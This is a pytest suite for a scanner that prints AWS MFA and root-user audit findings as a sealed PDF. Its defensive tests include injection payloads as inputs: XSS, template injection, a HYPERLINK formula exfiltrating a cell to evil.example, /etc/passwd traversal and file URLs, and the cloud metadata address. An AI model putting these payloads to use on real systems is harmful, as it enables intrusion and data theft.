import io
import json
import re
from dataclasses import replace
from datetime import timedelta

import pandas as pd
import pikepdf
import pypdf
import pytest
import reports_fixture as fixture
from jinja2 import UndefinedError
from markupsafe import escape
from weasyprint.urls import FatalURLFetchingError

from scanner.acceptances import read_acceptances
from scanner.drawing import Press, judge_again
from scanner.errors import RenderError
from scanner.evidence import StoredRun
from scanner.frameworks import bind_checks, find_frameworks
from scanner.model import ReasonCode, Selection, Severity
from scanner.reports import change_pages, root_pages, summary_page
from scanner.reports.facts import add_up_coverage, list_coverage, list_users
from scanner.reports.pages import build_pages
from scanner.reports.pdf import (
    ShippedFiles,
    fill_template,
    print_html,
    render_pdf,
)
from scanner.reports.remediation import build_commands, deny_without_mfa
from scanner.reports.summary_page import describe_changes, list_console_parts
from scanner.reports.text import shorten
from scanner.reports.wording import MISSING, describe_accepted
from scanner.summary import PreviousRun

SEAL = "ab" * 32
PRESS = Press(renderers={}, describe_tools=lambda _documents: {}, compare=lambda _old, _new: None)


def draw(folder, accounts, **changes):
    run = fixture.write_run(folder, accounts, **changes)
    return run, print_run(run, folder)


def print_run(run, folder):
    reports = folder / "reports"
    reports.mkdir()
    (path,) = render_pdf(run, reports)
    return path


def read_pages(path):
    """
    Return each page's text on one line, so that a line break on the page hides nothing.
    """
    return [" ".join(page.extract_text().split()) for page in pypdf.PdfReader(path).pages]


def squeeze(text):
    return re.sub(r"\s", "", text)


@pytest.fixture(scope="module")
def ordinary(tmp_path_factory):
    run, path = draw(tmp_path_factory.mktemp("run"), fixture.ordinary())
    return run, path, read_pages(path)


@pytest.fixture(scope="module")
def doubtful(tmp_path_factory):
    accounts = [
        *fixture.ordinary(),
        fixture.missed("555555555555", "unreachable", ReasonCode.SCP_DENIED),
    ]
    selection = Selection(ous=("ou-ab12-11111111",))
    run, path = draw(tmp_path_factory.mktemp("run"), accounts, simulated=True, selection=selection)
    return run, path, read_pages(path)


@pytest.fixture(scope="module")
def eventful(tmp_path_factory):
    folder = tmp_path_factory.mktemp("run")
    run = fixture.write_eventful(folder)
    path = print_run(run, folder)
    return run, path, read_pages(path)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    run, path = draw(
        tmp_path_factory.mktemp("run"),
        fixture.hostile(),
        organization_name=fixture.HOSTILE[3],
        prepared_by=fixture.HOSTILE[2],
    )
    return run, path, read_pages(path)


def test_the_cover_says_what_this_is_and_what_was_found(ordinary):
    """
    Organization, period, window, conclusion and the whole seal stand on the first page.
    """
    run, _, pages = ordinary

    cover = pages[0]
    for words in (
        "Example Payments Ltd",
        "o-a1b2c3d4e5",
        "2026-Q4",
        "2026-11-24 10:15 UTC",
        "2026-11-24 10:27 UTC",
        "PCI DSS 4.0.1, ISO/IEC 27001 2022",
        "3 of 7 console users can sign in with a password alone",
        "Every account that was to be read was read: 4 of 6 accounts listed",
        "Cloud Security",
        run.manifest_sha256,
    ):
        assert words in cover


def test_printed_totals_equal_the_sealed_ones(ordinary):
    """
    The ledger is written out as a sum, and each check's line holds the figures of summary.json.
    """
    run, _, pages = ordinary
    accounts = run.summary.accounts

    summary = " ".join(pages[3:6])
    assert (
        f"{accounts.listed} listed = {accounts.collected} collected + {accounts.not_collected} "
        f"not collected + {accounts.excluded} excluded + {accounts.not_active} not active"
    ) in summary
    for check in run.summary.checks:
        figures = (
            check.rows,
            check.failed,
            check.passed,
            check.needs_review,
            check.unknown,
            check.not_applicable,
        )
        numbers = " ".join(str(number) for number in (*figures, check.accepted))
        line = f"{check.check} · {check.severity} · {check.subject} {numbers}"
        assert squeeze(line) in squeeze(summary)


def test_the_summary_is_one_page_with_the_sealed_figures(eventful):
    """
    What a manager reads alone is one page, and each of its figures is the summary's.
    """
    run, _, pages = eventful
    summary, page = run.summary, pages[2]

    assert "1 Summary" in page
    assert "2 Figures" in pages[3]
    for figure in (*list_coverage(summary), *list_users(summary)):
        words = rf"{figure.label} {figure.number:,} ?{re.escape(figure.meaning)}"
        assert re.search(words, page), figure
    assert add_up_coverage(summary) in page
    assert describe_accepted(summary) in page
    for point in summary.trend:
        assert point.period in page
    for sentence in describe_changes(summary):
        assert sentence in page


def test_console_users_fall_into_parts_that_add_up(eventful, ordinary):
    """
    With MFA, open, accepted and not clear are all who may sign in, and the figures come from the totals.
    """
    for run, _, pages in (eventful, ordinary):
        parts = list_console_parts(run.summary)

        assert sum(number for _, number, _ in parts) == run.summary.users.may_sign_in
        for words, number, _ in parts:
            assert f"{number} {words}" in pages[2]
    (total,) = [t for t in eventful[0].summary.checks if t.check == "console-no-mfa"]
    assert [number for _, number, _ in list_console_parts(eventful[0].summary)][1:3] == [
        total.failed - total.accepted,
        total.accepted,
    ]


def test_lead_tiles_strip_and_trend_agree_where_a_report_was_too_old(eventful):
    """
    A user whom nobody can judge is not clear, and in no other figure of the page.
    """
    run, _, pages = eventful
    summary = run.summary
    users, page = summary.users, build_pages(run)["overview"]
    (total,) = [total for total in summary.checks if total.check == "console-no-mfa"]
    rest = page["units_rest"] or {"console": 0, "without": 0}
    table = pd.concat(run.users())
    people = table[~table["is_root"]]

    assert summary.stale
    assert f"{users.console_without_mfa} of {users.console} console users can sign in" in pages[2]
    assert users.console_without_mfa == total.failed == summary.trend[-1].without_mfa
    assert summary.trend[-1].exceptions + summary.trend[-1].accepted == total.failed
    for key, number in (("console", users.console), ("without", users.console_without_mfa)):
        assert sum(unit[key] for unit in page["units"]) + rest[key] == number
    nobody = people["password_enabled"].eq(other=False).fillna(value=False)
    assert users.may_sign_in + int(nobody.sum()) == users.users == len(people)
    assert "This evidence is complete" not in " ".join(pages)
    assert all("REPORTS TOO OLD" in text for text in pages)


def test_an_account_that_could_not_be_read_this_time_is_no_improvement(tmp_path):
    """
    Nine users without MFA in an account that nobody can read any more are not nine fewer.
    """
    nine = tuple(fixture.Person(f"u{number}", mfa="false") for number in range(9))
    before = [*fixture.clean(), fixture.Listed("111111111111", "acc", ("Root", "Bad"), nine)]
    now = [
        *fixture.clean(),
        fixture.missed("111111111111", "acc"),
        fixture.Listed("222222222222", "new", people=(fixture.Person("eve"),)),
    ]
    previous = fixture.write_run(tmp_path, before, started=fixture.BEFORE, period="2026-Q3")
    run = fixture.write_run(tmp_path, now, previous=previous)

    page = build_pages(run)["overview"]

    assert page["since"] == (
        "0 console users without MFA; in 2026-Q3 there were 9. The two cannot be compared: "
        "only 3 of 4 accounts could be used this time."
    )
    assert "findings 9 were not scanned this time: whether they were fixed" in page["moved"][-1]
    assert "stroke-dasharray" in page["trend"]["chart"]


def test_the_strip_of_ous_is_counted_from_the_tables(eventful):
    """
    Each OU's line holds the users of its accounts, row by row, and all lines add up to the summary.
    """
    run, _, pages = eventful
    users = pd.concat(run.users())
    people = users[~users["is_root"]].merge(run.accounts()[["account_id", "ou_path"]])
    old = run.accounts()["report_age_seconds"] > run.summary.max_report_age_hours * 3600
    people = people[
        ~people["account_id"].isin(run.accounts()["account_id"][old.fillna(value=False)])
    ]
    console = people[people["password_enabled"].fillna(value=False)]
    sums = [0, 0]

    for unit, rows in run.accounts().groupby("ou_path"):
        inside = console[console["ou_path"] == unit]
        without = int((~inside["mfa_active"].fillna(value=True)).sum())
        read = rows["outcome"] == "collected"
        known = int((read & ~old.fillna(value=False)[rows.index]).sum())
        due = int(read.sum() + (rows["outcome"] == "not-collected").sum())
        figures = f"{without} {len(inside)}" if known else f"{MISSING} {MISSING}"
        assert f"{unit} {known} of {due} {figures}" in pages[2]
        sums = [sums[0] + without, sums[1] + len(inside)]
    assert sums == [run.summary.users.console_without_mfa, run.summary.users.console]


def test_the_accounts_with_most_exceptions_are_counted_from_the_findings(eventful):
    """
    Most exceptions first, with the account's id and name; what needs review or is unknown is not among them.
    """
    run, _, pages = eventful
    findings = run.findings()
    failed = findings[findings["verdict"] == "fail"]
    counts = failed["account_id"].value_counts()

    worst = build_pages(run)["overview"]["worst"]

    assert [(row["account_id"], row["exceptions"]) for row in worst] == list(counts.items())
    for row in worst:
        figures = f"{row['exceptions']} {row['grave']} {row['without_mfa']}"
        assert f"{row['account_id']} {row['name']} {figures}" in pages[2]
    assert sum(row["without_mfa"] for row in worst) == (failed["check"] == "console-no-mfa").sum()


def test_many_ous_are_counted_where_they_do_not_fit(tmp_path):
    """
    Those with most users without MFA are shown, and the rest is one line with their sums.
    """
    run = fixture.write_run(tmp_path, fixture.large(accounts=50, users=100, findings=30))

    page = build_pages(run)["overview"]

    shown, rest = page["units"], page["units_rest"]
    assert len(shown) == summary_page.UNITS_LIMIT
    assert rest["number"] == 41 - len(shown)
    without = [unit["without"] for unit in shown]
    assert without == sorted(without, reverse=True)
    assert sum(without) + rest["without"] == run.summary.users.console_without_mfa
    assert sum(unit["due"] for unit in shown) + rest["due"] == run.summary.due


def test_the_summary_stays_one_page_whatever_things_are_called(tmp_path):
    """
    With every notice, eight periods and names as long as AWS allows it does not run over.
    """
    before = fixture.write_run(tmp_path, fixture.clean(), started=fixture.BEFORE, period="2026-Q3")
    (now,) = before.summary.trend
    long = [
        fixture.Listed(
            f"{500000000000 + number}",
            "W" * 128,
            ("Root", "W" * 128, f"{number}" + "W" * 127),
            (fixture.Person("u", mfa="false"), fixture.Person("v", mfa="false")),
        )
        for number in range(9)
    ]
    _, path = draw(
        tmp_path,
        [
            *long,
            *fixture.clean(),
            fixture.missed("900000000000", "unreachable"),
            fixture.Listed("910000000000", "old", people=(), age=timedelta(hours=30)),
        ],
        frameworks=("iso-27001-2022",),
        previous=before,
        trend=tuple(
            replace(now, period=f"2025-Q{number}", accepted=5, stale=1) for number in range(8)
        ),
        changes={
            "new": 10,
            "fixed": 9,
            "not-scanned": 99,
            "account-left": 9,
            "accounts-joined": 12,
        },
        simulated=True,
        interrupted=True,
        selection=Selection(ous=("ou-ab12-11111111",)),
        parent=SEAL,
        warnings=("one", "two"),
    )
    pages = read_pages(path)

    assert "1 Summary" in pages[2]
    assert "Since the previous run, and accepted" in pages[2]
    assert "warnings stand in section 2" in pages[2]
    assert "2 Figures" in pages[3]


def test_the_list_of_contents_names_the_pages(ordinary):
    """
    Each chapter and each framework begins on the page that the list gives.
    """
    run, path, pages = ordinary
    with pikepdf.open(path) as pdf, pdf.open_outline() as outline:
        titles = [item.title for item in outline.root]
        (controls,) = [item for item in outline.root if item.title == "3 Results by control"]
        titles += [item.title for item in controls.children]

    names = [f"{framework.name} {framework.version}" for framework in run.frameworks]
    assert titles[-2:] == [f"3.{number} {name}" for number, name in enumerate(names, 1)]
    for title in titles:
        (number,) = re.findall(rf"(?<!\d){re.escape(title)}[ .]+(\d+)(?!\d)", pages[1])
        assert title in pages[int(number) - 1]


def test_short_chapters_follow_one_another_on_a_page(eventful, tmp_path):
    """
    Of a calm run five chapters have a few lines each. Long ones, and each framework, begin a page.
    """
    _, _, busy = eventful
    _, path = draw(tmp_path, fixture.clean())
    calm = read_pages(path)
    chapters = (
        "4 Findings by account There are no findings",
        "5 Root users",
        "6 Accounts not assessed or in doubt There are none",
        "7 Accepted risks",
        "8 Since the previous run",
    )

    (shared,) = (page for page in calm if page.startswith(chapters[0]))
    places = [shared.find(words) for words in chapters]
    assert -1 not in places
    assert places == sorted(places)
    for pages in (calm, busy):
        for words in ("1 Summary", "3.2 ISO/IEC 27001", "9 How to put it right"):
            assert [page for page in pages if page.startswith(words)], words
    for words in ("4 Findings by account", "5 Root users", "8 Since the previous run"):
        assert [page for page in busy if page.startswith(words)], words


def test_every_root_user_is_listed_with_what_it_holds(eventful):
    """
    One line for each account that was read, and the words are those of its row.
    """
    run, _, pages = eventful
    chapter = " ".join(page for page in pages if "Certificates Last use" in page)
    users = pd.concat(run.users())

    for root in users[users["is_root"]].to_dict("records"):
        words = {True: "yes", False: "no"}
        password = words.get(root["password_enabled"], "not stated")
        keys = "1 active" if root["access_key_1_active"] else "none"
        line = f"{password} {words[root['mfa_active']]} {keys} none"
        words_of_age = r"(?: report[\w ,:-]* too old)?"
        row = rf"{root['account_id']} [a-z -]+?{words_of_age} {line}"
        assert re.search(row, chapter), root["account_id"]
    assert "exception noted: Active root access key; Root password without MFA" in chapter
    assert "The root users of the other 3 accounts listed are in no figure" in chapter


def test_root_users_with_findings_stand_first_where_not_all_fit(tmp_path, monkeypatch):
    """
    Above the limit those without findings are counted, and the page says where they are.
    """
    monkeypatch.setattr(root_pages, "ROOTS_LIMIT", 2)
    run = fixture.write_run(tmp_path, fixture.ordinary())

    pages = build_pages(run)

    roots = pages["roots"]
    assert [row["account_id"] for row in roots["rows"]] == ["012345678901", "111111111111"]
    assert (roots["number"], roots["noted"], roots["shown"]) == (4, 2, 2)
    assert "2 of 4 are printed; about 2 something was found" in fill_template(pages)


def test_a_run_of_reports_too_old_says_nothing_clean(tmp_path):
    """
    The cover has a stamp, no account is said to be assessed, and root's figures and checks are root's alone.
    """
    old = [replace(account, age=timedelta(hours=30)) for account in fixture.clean()]
    number = len(old)
    run = fixture.write_run(tmp_path, old)

    pages = build_pages(run)
    html = fill_template(pages)

    assert '<p class="stamp">REPORTS TOO OLD</p>' in html
    assert f"0 of {number} usable" in html
    assert "There are none: every account" not in html
    assert "Nothing is said about the users" not in html
    assert "no account&#39;s report could be used, so no number is known" in html
    assert dict(pages["roots"]["counts"])["report too old"] == number
    assert len(re.findall(r'<span class="small">report[^<]* too old</span>', html)) == number
    assert {total.subject for total in pages["roots"]["checks"]} == {"root"}


def test_remediation_is_printed_as_it_is_to_be_copied(ordinary):
    """
    The policy comes out of the document as JSON, and the commands line by line.
    """
    _, path, _ = ordinary
    text = "\n".join(page.extract_text() for page in pypdf.PdfReader(path).pages)

    start = text.index("{", text.index("This policy, attached to a group"))
    policy, _ = json.JSONDecoder().raw_decode(text[start:])
    assert policy == deny_without_mfa("aws")
    for lines in build_commands("aws").values():
        for line in lines:
            assert line.strip() in text


def test_remediation_speaks_of_the_runs_own_partition(tmp_path):
    """
    In GovCloud root has no console, and every ARN is one of that partition.
    """
    run = fixture.write_run(tmp_path, fixture.clean(), frameworks=(), partition="aws-us-gov")

    html = fill_template(build_pages(run))

    assert "In AWS GovCloud (US) a root user has no console" in html
    assert "Troubleshoot MFA" not in html
    assert "arn:aws-us-gov:iam::ACCOUNT:mfa/USER-phone" in html
    assert "arn:aws:iam::ACCOUNT" not in html


def test_names_on_the_summary_are_text(hostile):
    """
    Neither the strip of OUs nor the list of accounts takes a name for markup, a template or mathematics.
    """
    _, _, pages = hostile

    for name in ("<img src=x onerror=alert(1)>", "{{7*7}}{% for x in", "payments[U+202E]"):
        assert squeeze(name) in squeeze(pages[2])


def test_a_name_that_is_too_long_shows_that_it_was_cut():
    """
    Beginning and end stay, as wide letters allow; what fits is whole, and what is hidden is counted as its code.
    """
    assert shorten("data-platform-production-eu-west", 40) == "data-platform-production-eu-west"
    assert shorten("a" * 30 + "b" * 30, 40) == "a" * 20 + "\u2026" + "b" * 20
    assert shorten("W" * 128, 40) == "W" * 10 + "\u2026" + "W" * 10
    assert shorten("x\u202ey", 40) == "x[U+202E]y"


def test_an_arn_may_break_and_is_copied_whole():
    """
    Longer than its line it is broken, and what is taken from the page is the ARN.
    """
    arn = "arn:aws:iam::012345678901:user/division_a/<b>team.x@y"
    html = (
        '<!DOCTYPE html><html lang="en"><link rel="stylesheet" href="orgproof:report.css">'
        f'<body><p style="width: 20mm"><bdi class="arn">{escape(arn)}</bdi></p></body></html>'
    )

    printed = print_html(html, identifier=SEAL, moment=fixture.FINISHED)

    (page,) = pypdf.PdfReader(io.BytesIO(printed.content)).pages
    lines = page.extract_text().removesuffix("Page 1 of 1").splitlines()
    assert "".join(lines) == arn
    assert len(lines) > 2
    assert not printed.unseen


def test_controls_speak_in_their_frameworks_words(ordinary):
    """
    Each control carries its verdict as the framework's auditors would put it, direct ones first.
    """
    run, _, pages = ordinary
    text = squeeze(" ".join(pages))

    assert (
        squeeze(
            "Exceptions or leads noted, for the assessor to weigh against scope and requirement"
        )
        in text
    )
    assert squeeze("Objective evidence of a potential nonconformity") in text
    assert squeeze("Scope not declared; every account is taken to be in scope") in text
    for framework in run.frameworks:
        for control in framework.controls:
            assert squeeze(f"{control.id} {control.title}") in text
            assert squeeze(control.cannot_show[0]) in text
    assert text.index("8.4.2MFA") < text.index("8.2.2Shared")


def test_controls_without_checks_say_why_and_stand_last(ordinary):
    """
    A control that nothing bears on gives its reason, and shows no figures as if it had been tested.
    """
    run, _, pages = ordinary
    text = squeeze(" ".join(pages))

    for framework in run.frameworks:
        untested = [control for control in framework.controls if control.not_tested]
        assert untested
        for control in untested:
            start = text.rindex(squeeze(f"{control.id} {control.title}"))
            article = text[start : start + 2_000]
            assert squeeze(control.not_tested) in article
            assert "evaluated" not in article[: article.index("Asks")]


def test_other_editions_and_what_nothing_shows_are_printed(ordinary):
    """
    Ids in other editions stand with each control, and the ids that nothing here shows with their reason.
    """
    run, _, pages = ordinary
    text = squeeze(" ".join(pages))

    (iso,) = [framework for framework in run.frameworks if framework.id == "iso-27001-2022"]
    crosswalks = [control.crosswalk for control in iso.controls if control.crosswalk]
    assert crosswalks
    for crosswalk in crosswalks:
        for edition, ids in crosswalk.items():
            assert squeeze(f"{edition}: {', '.join(ids)}") in text
    for framework in run.frameworks:
        for gap in framework.not_evidenced:
            assert squeeze(f"{', '.join(gap.ids)} {gap.because}") in text


def test_an_account_that_goes_on_is_named_at_the_head_of_the_page(tmp_path):
    """
    Wherever a page begins with a person whose account has its line on a page before, and on no other page.
    """
    crowd = [
        fixture.Listed(
            f"{number}" * 12,
            name,
            people=tuple(fixture.Person(f"u{number}-{nth:02}", mfa="false") for nth in range(50)),
        )
        for number, name in ((1, "first"), (2, "W" * 128), (3, "third"))
    ]
    _, path = draw(tmp_path, [*fixture.clean(), *crowd])

    inside, told = None, []
    for page in read_pages(path):
        first = re.search(r"(\d{12}) \S+ (?:in .*?)?report of|u(\d)-\d\d arn:", page)
        due = inside if first and first[2] else None
        said = re.search(r"Continued: (\d{12}) (\S+)", page)
        assert (said and said[1]) == due, page[:200]
        told += [said[2]] if said else []
        inside = (re.findall(r"u(\d)-\d\d arn:", page) or [None])[-1]
        inside = inside and inside * 12
    assert {"first", "third", f"{'W' * 21}\u2026{'W' * 21}"} == set(told)


def test_a_finding_fixed_since_the_report_stays_listed(ordinary):
    """
    The live answer annotates the finding and does not remove it.
    """
    _, _, pages = ordinary

    (page,) = [page for page in pages if "alice" in page and "bob" in page]
    assert "bob" in page
    assert "fixed since the report" in page
    assert "virtual device since 2026-11-24" in squeeze_words(page)
    assert "still open" in page
    assert "unable to determine" in page


def squeeze_words(text):
    return re.sub(r"- ", "-", text)


def test_every_account_not_read_is_named_with_its_reason(doubtful):
    """
    Not collected, not active and excluded accounts are listed with what to do next.
    """
    run, _, pages = doubtful
    (page,) = [page for page in pages if "6 Accounts not assessed" in page and "scp-denied" in page]

    accounts = run.accounts()
    for account in accounts[accounts["outcome"] != "collected"]["account_id"]:
        assert account in page
    assert squeeze("cannot be assumed (AccessDenied); create it there") in squeeze(page)
    assert squeeze("excluded by the settings: run by a partner") in squeeze(page)


def test_every_page_of_a_doubtful_run_says_why_it_is_doubtful(doubtful):
    """
    A page that is copied out of an incomplete, simulated, partial run still carries all three marks.
    """
    _, _, pages = doubtful

    for page in pages:
        assert "INCOMPLETE 1 of 7 accounts could not be read" in page
        assert "SIMULATED this organization is simulated" in page
        assert "PARTIAL SELECTION" in page


def test_no_page_of_a_complete_run_is_stamped(ordinary):
    """
    The stamp means something because it stands only where it is true.
    """
    _, _, pages = ordinary

    assert not [page for page in pages if "INCOMPLETE" in page or "SIMULATED" in page]


def test_every_page_carries_the_seal_and_its_number(ordinary):
    """
    No page can be swapped without a trace.
    """
    run, _, pages = ordinary

    for number, page in enumerate(pages, 1):
        assert f"Seal {run.manifest_sha256} run {run.summary.run_id}" in page
        assert f"Page {number} of {len(pages)}" in page


def test_the_document_describes_itself(ordinary):
    """
    Title, language, date and bookmarks are set, from the evidence and not from the clock.
    """
    _, path, _ = ordinary

    with pikepdf.open(path) as pdf:
        assert str(pdf.Root.Lang) == "en"
        assert str(pdf.docinfo["/Title"]).endswith("Example Payments Ltd, 2026-Q4")
        assert str(pdf.docinfo["/CreationDate"]).startswith("D:20261124102731")
        with pdf.open_outline() as outline:
            titles = [item.title for item in outline.root]
    assert titles == [
        "1 Summary",
        "2 Figures",
        "3 Results by control",
        "4 Findings by account",
        "5 Root users",
        "6 Accounts not assessed or in doubt",
        "7 Accepted risks",
        "8 Since the previous run",
        "9 How to put it right",
        "10 Method and limits",
        "Annex: ledger of all accounts",
    ]


def test_the_pdf_promises_nothing(ordinary):
    """
    The determination is the assessor's: the words that would make it ours appear nowhere.
    """
    _, _, pages = ordinary

    assert not re.search(r"compliant|certified|passed pci", "\n".join(pages), re.IGNORECASE)


def test_the_same_evidence_gives_the_same_pdf(tmp_path, hostile):
    """
    Drawn again from equal evidence in another folder, the document is equal to the last byte.
    """
    _, first, _ = hostile

    _, second = draw(
        tmp_path,
        fixture.hostile(),
        organization_name=fixture.HOSTILE[3],
        prepared_by=fixture.HOSTILE[2],
    )

    assert first.read_bytes() == second.read_bytes()


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "{{7*7}}{% for x in y %}${7*7}#{7*7}",
        "payments[U+202E]gpj.exe",
        "line one[U+000D][U+000A]line two",
        "../../../../etc/passwd",
        "&lt;already&amp;escaped&gt; <!-- comment --> <![CDATA[x]]>",
        '"><link rel=attachment href=file:///etc/passwd>',
    ],
)
def test_a_hostile_name_is_printed_as_text(hostile, name):
    """
    Markup, templates, formulas and hidden characters stand on the page as what they are.
    """
    _, _, pages = hostile

    assert squeeze(name) in squeeze(" ".join(pages))


def test_no_name_adds_anything_active_to_the_pdf(hostile):
    """
    The document holds no link to the outside, no script and no image, and no file but the evidence's own.
    """
    _, path, _ = hostile

    with pikepdf.open(path) as pdf:
        kinds = set()
        for entry in pdf.objects:
            if isinstance(entry, pikepdf.Dictionary | pikepdf.Stream):
                kinds |= {
                    str(entry.get(key)) for key in ("/S", "/Subtype", "/Type") if key in entry
                }
        assert "/JavaScript" not in pdf.Root.Names
        assert set(pdf.attachments) == {
            "SHA256SUMS",
            "accounts.csv",
            "findings.csv",
            "manifest.json",
            "summary.json",
        }
    assert not kinds & {"/URI", "/JavaScript", "/Launch", "/GoToR", "/FileAttachment", "/Image"}


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "https://evil.example/x.css",
        "data:text/css,*{display:none}",
        "ftp://evil.example/x",
        "orgproof:../scanner/reports/pdf.py",
        "orgproof:/etc/passwd",
        "orgproof:report.html",
        "orgproof:",
        "x",
    ],
)
def test_nothing_but_shipped_files_is_served(url):
    """
    Any address but the style sheet's and the fonts' stops the rendering.
    """
    with pytest.raises(FatalURLFetchingError):
        ShippedFiles().fetch(url)


@pytest.mark.parametrize(
    "markup",
    [
        '<img src="file:///etc/passwd">',
        '<link rel="attachment" href="file:///etc/passwd">',
        '<link rel="stylesheet" href="http://evil.example/x.css">',
        '<p style="background: url(http://evil.example/x.png)">x</p>',
        '<object data="file:///etc/passwd"></object>',
        "<style>@import url(data:text/css,p{color:red});</style>",
        "<img src=x>",
    ],
)
def test_markup_that_reaches_for_a_file_stops_the_rendering(markup):
    """
    Even if a name got through as markup, it could fetch nothing: there would be no document.
    """
    with pytest.raises(RenderError, match="the document asks for"):
        print_html(
            f"<!DOCTYPE html><html><body>{markup}</body></html>",
            identifier=SEAL,
            moment=fixture.FINISHED,
        )


def test_a_value_the_template_lacks_is_an_error_and_not_a_blank(tmp_path):
    """
    A figure that is missing must never look like a figure that is empty.
    """
    pages = build_pages(fixture.write_run(tmp_path, fixture.clean()))
    del pages["coverage_sum"]

    with pytest.raises(UndefinedError, match="coverage_sum"):
        fill_template(pages)


def test_the_most_severe_finding_of_an_account_stands_first(ordinary):
    """
    Within an account people stand by their gravest finding, whatever they are called, and so do a person's findings.
    """
    run, _, _ = ordinary
    (people,) = [
        account["people"]
        for block in build_pages(run)["findings"]["blocks"]
        for account in block["accounts"]
        if account["account_id"] == "012345678901"
    ]

    ranks = [
        [
            list(Severity).index(check["severity"])
            for row in person["rows"]
            for check in row["checks"]
        ]
        for person in people
    ]
    assert all(own == sorted(own) for own in ranks)
    assert [own[0] for own in ranks] == sorted(own[0] for own in ranks)
    assert len({rank for own in ranks for rank in own}) > 3


def test_a_run_that_read_nothing_concludes_nothing(tmp_path):
    """
    Without one account read the cover says so, and no page says that nothing was found.
    """
    _, path = draw(tmp_path, [fixture.missed("000000000017", "management")])
    pages = read_pages(path)

    assert "No account was read, so nothing can be concluded about any user." in pages[0]
    assert "This evidence is incomplete: 1 of 1 account could not be read" in pages[0]
    assert "No exceptions were noted" not in " ".join(pages)


def test_every_acceptance_is_printed_with_what_became_of_it(eventful):
    """
    Owner, approver, ticket, days and warnings stand there, and an expired one is open again.
    """
    _, _, pages = eventful
    (page,) = [page for page in pages if "7 Accepted risks" in page and "sealed-alice" in page]
    said = squeeze(page)

    for words in (
        "sealed-alice",
        "2026-09-01 to 2027-08-31 in force",
        "2026-01-01 to 2026-10-31 expired 1 1 open again",
        "2026-12-01 to 2027-03-01 not yet in force",
        "Noor Haddad, CISO",
        "RISK-200",
        "Warning: expired on 2026-10-31, and 1 finding is open again: resolve or renew",
        "Warning: matches nothing in the accounts that were read",
    ):
        assert squeeze(words) in said, words


def test_accepting_a_risk_takes_nothing_off_the_exceptions(eventful):
    """
    The sentence counts the accepted ones within all, and the finding stands with its acceptance.
    """
    run, _, pages = eventful
    text = squeeze(" ".join(pages))
    failed = sum(total.failed for total in run.summary.checks)
    leads = sum(total.needs_review for total in run.summary.checks)

    assert squeeze(f"1 of the {failed} exceptions and {leads} leads is an accepted risk") in text
    assert squeeze("Accepted risk sealed-alice: accepted until 2027-08-31 by Noor Haddad") in text
    assert squeeze("acceptance old-erin expired on 2026-10-31: open again") in text


def test_a_run_without_acceptances_says_that_all_is_open(ordinary):
    """
    An empty section would leave it to the reader.
    """
    _, _, pages = ordinary

    assert "No accepted risks were given: all" in " ".join(pages)


def test_the_scope_of_each_framework_is_printed(eventful):
    """
    Who declared what, how many accounts it holds and how many of them were not read.
    """
    run, _, pages = eventful
    text = squeeze(" ".join(pages))
    pci, iso = run.summary.scopes

    assert squeeze(f"Scope declared: {pci.words}") in text
    assert squeeze("Accounts in scope 2 active, each of them read") in text
    assert squeeze(f"Declared in inputs/settings.toml, SHA-256 {pci.sha256}") in text
    assert squeeze("Scope not declared; every account is taken to be in scope") in text
    assert squeeze(f"{iso.accounts} active, {iso.not_tested} of them not tested") in text


def test_a_page_says_what_changed_since_the_previous_run(eventful):
    """
    Which run, the counts, the gap, the trend and the changes themselves; the rest is where it says.
    """
    run, _, pages = eventful
    (first,) = [
        number
        for number, page in enumerate(pages)
        if "8 Since the previous run" in page and "Trend" in page
    ]
    said = squeeze(" ".join(pages[first : first + 3]))
    before = run.summary.trend[0]

    for words in (
        "Compared with run 20260816T101500Z of 2026-Q3",
        run.summary.previous.manifest_sha256,
        "100 days lie between this run and the previous one",
        f"2026-Q3 4 4 {before.console} 4 4 0",
        "2026-Q4 (this run) ? partial 6 8",
        "there can be more than the figures say",
        "in the workbook (sheet Changes) and in changes.csv",
        "newcomer",
        "bob console-no-mfa critical, exception noted 2026-08-16 2026-11-24",
        "joined 999999999999 unreachable Workloads not collected",
        "left 555555555555 gone Workloads no longer listed; collected in the previous run",
    ):
        assert squeeze(words) in said, words
    for state in ("new", "fixed", "7 accounts joined", "account left"):
        assert squeeze(state) in said


def test_the_counts_of_changes_add_up_to_the_findings(eventful):
    """
    New, reopened and still open are this run's findings, no more and no fewer.
    """
    run, _, _ = eventful
    counts = [number for _, number in build_pages(run)["changes"]["counts"]]

    assert sum(counts[:3]) == run.summary.findings
    accounts = ("accounts-joined", "accounts-left")
    assert sum(counts) == sum(n for key, n in run.summary.changes.items() if key not in accounts)


def test_each_kind_of_change_is_listed_before_many_of_one(eventful, monkeypatch):
    """
    A thousand new findings do not push what was fixed off the page.
    """
    run, _, _ = eventful
    monkeypatch.setattr(change_pages, "CHANGES_LIMIT", 3)
    changes = build_pages(run)["changes"]

    assert changes["number"] > len(changes["rows"]) == 3
    assert {row["state"] for row in changes["rows"]} == {"new", "fixed", "account-left"}


def test_a_first_run_says_that_there_is_nothing_to_compare_with(ordinary):
    """
    One sentence, and no finding is called new.
    """
    run, _, pages = ordinary
    text = " ".join(pages)

    assert "There is no previous run to compare with" in text
    assert "Trend" not in text
    rows = [
        row
        for block in build_pages(run)["findings"]["blocks"]
        for account in block["accounts"]
        for person in account["people"]
        for row in person["rows"]
    ]
    assert {row["since"] for row in rows} == {None}


def test_findings_say_since_when_they_are_open(eventful):
    """
    What is new and what was there a hundred days ago differ at a glance.
    """
    _, _, pages = eventful
    text = " ".join(pages)

    assert "critical · new" in text
    assert "critical · open for 100 days" in text


def test_warnings_and_doubts_are_printed(eventful):
    """
    Every warning is on the summary; old reports and counts that differ are listed by account.
    """
    run, _, pages = eventful
    summary = squeeze(" ".join(pages[3:5]))
    doubts = squeeze(" ".join(page for page in pages if "6 Accounts not assessed" in page))

    assert run.summary.warnings
    for warning in run.summary.warnings:
        assert squeeze(warning) in summary
    assert squeeze("1 report was older than 24 hours when fetched") in squeeze(pages[0])
    for words in (
        "Read, but the report was older than 24 hours: 1",
        "666666666666 old-report Workloads 30 h 01 min",
        "111111111111 data-lake 2 3 1 0 different, and explained",
        f"777777777777 uncounted 1 {MISSING * 3} could not be compared",
        f"888888888888 fewer 2 1 {MISSING * 2} different, and not explained",
    ):
        assert squeeze(words) in doubts, words


